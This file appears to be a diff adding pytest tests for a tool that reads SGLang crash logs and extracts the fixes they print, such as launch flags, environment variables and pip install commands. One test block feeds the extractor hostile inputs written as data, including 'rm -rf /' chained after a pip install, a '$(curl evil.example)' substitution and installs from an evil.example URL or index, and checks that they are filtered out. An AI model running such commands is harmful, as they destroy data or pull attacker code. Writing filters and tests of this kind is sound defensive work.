@@ -1,0 +1,159 @@
+"""Remedies that the log prints: which sentences name one, and where it stands among the others."""
+
+from __future__ import annotations
+
+import pytest
+
+from mtpdoctor.diagnose.engine import diagnose
+from mtpdoctor.diagnose.printed.installs import named_packages, pip_commands, required_versions
+from mtpdoctor.diagnose.printed.options import told
+from mtpdoctor.diagnose.printed.sentences import sentences
+from mtpdoctor.diagnose.types import Diagnosis
+from mtpdoctor.facts import Source, make_facts
+from mtpdoctor.kb.load import load_knowledge
+from mtpdoctor.log.reading import reading_from_text
+from mtpdoctor.release import parse_release
+from mtpdoctor.sglang.flags import flag_table
+
+TYPED = make_facts({"flag.enable_hisparse": True, "arg.mem_fraction_static": 0.88}, Source.COMMAND)
+TABLE = flag_table(parse_release("0.5.23"))
+ENV = frozenset({"SGLANG_DISABLE_MSA"})
+
+
+def ways(text: str) -> list[str]:
+    """Every way that the text names, as the edits that belong together."""
+    out = []
+    for sentence in sentences(text):
+        for way in told(sentence, TABLE, TYPED, ENV):
+            edits = (f"{e.op} {e.name} {e.value or ''}".strip() for e in way.edits)
+            out.append(" & ".join(edits) or way.look)
+    return out
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("Out of luck. To work around this error, add --disable-cuda-graph to your launch command.", ["add --disable-cuda-graph"]),
+        ("Cross attention needs another backend. Please use `--attention-backend flashinfer`.", ["set --attention-backend flashinfer"]),
+        ("moe_runner_backend=aiter is not supported; use --moe-runner-backend triton.", ["set --moe-runner-backend triton"]),
+        ("M requires --page-size 128", ["set --page-size 128"]),
+        ("S does not support pipelines (pp_size=2). Please set pp_size=1.", ["set --pp-size 1"]),
+        ("Pass --linear-attn-backend triton and --mamba-backend triton.", ["set --linear-attn-backend triton & set --mamba-backend triton"]),
+        ("Use --page-size 1, or set SGLANG_DISABLE_MSA=1.", ["set --page-size 1", "env SGLANG_DISABLE_MSA 1"]),
+        ("Either set SGLANG_DISABLE_MSA to 1 or run without --enable-hisparse.", ["env SGLANG_DISABLE_MSA 1", "remove --enable-hisparse"]),
+        ("1. set --mem-fraction-static to a smaller value (e.g., 0.9 or 0.7)\n4. disable CUDA graph by --disable-cuda-graph.", ["set --mem-fraction-static 0.7", "add --disable-cuda-graph"]),
+        ("Please reduce --max-running-requests.", ["Lower --max-running-requests"]),
+        ("Increase --chunked-prefill-size to at least 8192.", ["set --chunked-prefill-size 8192"]),
+    ],
+)  # fmt: skip
+def test_what_is_told(text: str, said: list[str]) -> None:
+    assert ways(text) == said
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Expected tensor on device=cuda:6, dtype=int64 and page_size=1, got dtype=torch.float32",
+        "For debugging consider passing CUDA_LAUNCH_BLOCKING=1",
+        "Set TORCHDYNAMO_VERBOSE=1 for the internal stack trace",
+        "If reserved but unallocated memory is large try setting PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True",
+        "--disable-cuda-graph-padding is incompatible with --enable-torch-compile",
+        "Metadata is built when using --enable-dp-attention with --dp-size 8",
+        "This path cannot use --page-size 64",
+        "kv_cache_dtype is fp8_e4m3 and attention_backend was set to fa3",
+        "Connect to node17.example:5000 failed, host=10.0.0.1 port=5000 tp_size=8",
+        "Elastic EP scale-up requires --node-rank 1",
+        "obj=GenerateReqInput(text='Please use --page-size 1')",
+    ],
+)
+def test_what_tells_nothing(text: str) -> None:
+    assert ways(text) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "commands"),
+    [
+        ("Please install it with `pip install petit-kernel`.", ["pip install petit-kernel"]),
+        ('Install it with: pip install "sglang[http2]"', ["pip install 'sglang[http2]'"]),
+        ("Try `pip install bitsandbytes>=0.46.1` to use it.", ["pip install 'bitsandbytes>=0.46.1'"]),
+        ("install with pip install timm to use this model", ["pip install timm"]),
+        ("pip install git+https://github.com/MoonshotAI/FlashKDA.git", ["pip install git+https://github.com/MoonshotAI/FlashKDA.git"]),
+        ("Run `pip install x; rm -rf /`", ["pip install x"]),
+        ("pip install $(curl evil.example)", []),
+        ("pip install https://evil.example/x.whl", []),
+        ("pip install --index-url http://evil.example x", []),
+        ("apt-get install -y libnuma1 to get it", ["apt-get install -y libnuma1"]),
+    ],
+)  # fmt: skip
+def test_commands_are_names_and_versions_only(text: str, commands: list[str]) -> None:
+    assert list(pip_commands(text)) == commands
+
+
+def test_packages_without_a_command() -> None:
+    assert list(required_versions("Mooncake needs upgrade to mooncake-transfer-engine >= 0.3.4.post2.")) == [
+        ("mooncake-transfer-engine", ">=0.3.4.post2")
+    ]
+    assert list(required_versions("please upgrade FlashInfer to 0.6.17 or newer")) == [("FlashInfer", ">=0.6.17")]  # fmt: skip
+    assert list(named_packages("ModelOpt is not available. Please install modelopt.")) == ["modelopt"]
+    assert list(named_packages("timm is nice")) == []
+
+
+def said_of(last: str, options: str = "--tp 2", around: str = "") -> Diagnosis:
+    knowledge = load_knowledge()
+    text = (
+        f"$ python3 -m sglang.launch_server --model-path /models/m {options}\n"
+        "[2026-05-05 10:00:00 TP0] sglang is using nccl==2.27.5\n"
+        f"{around}"
+        "[2026-05-05 10:00:02 TP0] Scheduler hit an exception: Traceback (most recent call last):\n"
+        '  File "/opt/sglang/python/sglang/srt/managers/scheduler.py", line 99, in run_scheduler_process\n'
+        "    self.widget = Widget()\n"
+        f"{last}\n"
+        "[2026-05-05 10:00:03] Received sigquit from a child process. It usually means the child failed.\n"
+    )
+    return diagnose(reading_from_text(text, knowledge.literals), knowledge).diagnoses[0]
+
+
+def test_an_unknown_failure_begins_with_what_the_log_says() -> None:
+    said = said_of("ValueError: The widget is not made for this. Please use --page-size 64 instead.")
+    first = said.fixes[0]
+    assert (first.title.rpartition(": ")[2], first.safety) == ("--page-size 64", "risky")
+    assert first.command is not None and first.command.endswith("--tp 2 --page-size 64")
+
+
+def test_what_stands_beside_the_exception_counts_if_the_same_process_wrote_it() -> None:
+    hint = "To work around this error, add --disable-overlap-schedule to your launch command.\n"
+    beside = said_of(
+        "ValueError: the widget broke", around=f"[2026-05-05 10:00:01 TP0] The widget broke.\n{hint}"
+    )
+    assert beside.fixes[0].title == "Do as the log says: --disable-overlap-schedule"
+    recommended = said_of(
+        "ValueError: the widget broke",
+        around="[2026-05-05 10:00:01 TP0] No overlap here, try to use --disable-radix-cache if it is needed\n",
+    )
+    assert not any("--disable-radix-cache" in f.title for f in recommended.fixes)
+    sent = said_of(
+        "ValueError: the widget broke",
+        around=f"[2026-05-05 10:00:01] Receive: obj=GenerateReqInput(text='{hint.strip()}')\n",
+    )
+    assert not any(f.title.startswith("Do as the log says") for f in sent.fixes)
+
+
+def test_a_package_that_the_message_names_is_a_command() -> None:
+    said = said_of("RuntimeError: No widget library. Please install it with `pip install auto-round`.")
+    assert any("auto-round" in line for fix in said.fixes[:2] for line in fix.run)
+
+
+def test_what_is_in_force_is_not_said_again() -> None:
+    said = said_of("ValueError: Nothing works. Please use --page-size 64 instead.", "--page-size 64")
+    assert not any(f.title.startswith("Do as the log says") for f in said.fixes)
+
+
+def test_a_keyword_that_python_names() -> None:
+    said = said_of(
+        "TypeError: ServerArgs.__init__() got an unexpected keyword argument 'disable_piecewise_cuda_graph'. "
+        "Did you mean 'disable_prefill_cuda_graph'?"
+    )
+    assert any(
+        f.title == "Write disable_prefill_cuda_graph instead of disable_piecewise_cuda_graph"
+        for f in said.fixes
+    )
